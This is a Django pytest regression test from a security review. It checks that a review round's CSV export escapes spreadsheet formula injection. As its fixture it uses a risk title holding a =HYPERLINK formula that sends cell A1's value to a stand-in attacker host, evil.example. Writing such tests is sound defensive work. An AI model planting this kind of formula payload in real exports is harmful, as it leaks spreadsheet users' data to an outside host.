"""Findings of the outside security review (one test per finding, each failing before its fix)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from rounds import services as round_services
from tests.factories import make_risk

FORMULA_LEADS = ("=", "+", "-", "@")


# The review round's CSV: cells a spreadsheet would run as formulas ---------------------------

def test_round_csv_neutralises_formula_text(demo, client_for):
    today = timezone.localdate()
    review_round = round_services.open_round(meeting_date=today + timedelta(days=60), opens_on=today,
                                             deadline=today + timedelta(days=30), user=demo["author"])
    make_risk("31", user=demo["smt"], title='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    response = client_for("author").get(reverse("rounds:csv", args=[review_round.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row[0] == "31")
    assert not any(cell.startswith(FORMULA_LEADS) for cell in row), row
    assert row[1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
